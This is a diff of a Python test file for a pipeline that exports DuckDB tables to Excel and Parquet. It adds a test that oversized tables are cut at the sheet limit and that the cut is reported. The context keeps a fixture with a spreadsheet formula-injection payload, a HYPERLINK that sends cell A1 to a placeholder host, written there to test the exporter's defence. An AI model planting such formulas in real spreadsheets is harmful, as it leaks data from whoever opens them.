@@ -18,7 +18,7 @@ from openpyxl.utils.escape import unescape
 
 from orchestration.publish.exports import export_marts
 from orchestration.publish.marts import MartSpecError, export_query, mart_specs
-from orchestration.quality.run_info import read_run_info
+from orchestration.quality.run_info import RunInfo, read_run_info
 
 HOSTILE_TITLES = {
     "1.1": '=HYPERLINK("http://example.invalid/?leak="&A1,"Klik her")',
@@ -269,3 +269,26 @@ def test_a_code_label_seed_that_does_not_exist_is_named_in_the_error(tmp_path: P
         mart_specs(_manifest(tmp_path, {"code_labels": labels}))
     with pytest.raises(MartSpecError, match="must give seed, code and label_da"):
         mart_specs(_manifest(tmp_path, {"code_labels": {"seed": "benefit_groups"}}))
+
+
+def test_a_mart_longer_than_a_sheet_is_cut_and_says_so(tmp_path: Path, monkeypatch):
+    """Excel holds 1,048,575 data rows: the sheet gets the first in key order, "Om data" says so,
+    and the Parquet file has them all (here with the limit lowered to 8 rows)."""
+    import orchestration.publish.exports as exports
+    import orchestration.publish.xlsx as xlsx
+
+    monkeypatch.setattr(xlsx, "EXCEL_MAX_ROWS", 9)
+    monkeypatch.setattr(exports, "EXCEL_MAX_ROWS", 9)
+    source = tmp_path / "serving.duckdb"
+    with duckdb.connect(str(source)) as con:
+        con.execute("create schema marts")
+        con.execute("create table marts.fct_n as select 12 - range as n from range(12)")
+    result = export_marts(source, tmp_path / "out", manifest_path=None, run_info=RunInfo())
+    book = openpyxl.load_workbook(result.xlsx)
+    assert [r[0] for r in book["fct_n"].iter_rows(min_row=2, values_only=True)] == list(range(1, 9))
+    about = dict(book["Om data"].iter_rows(min_row=2, values_only=True))
+    assert about["Ark fct_n"] == "de første 8 af 12 rækker (alle i fct_n.parquet)"
+    with duckdb.connect() as con:
+        assert con.execute(
+            "select count(*) from read_parquet(?)", [str(result.parquet["fct_n"])]
+        ).fetchone() == (12,)
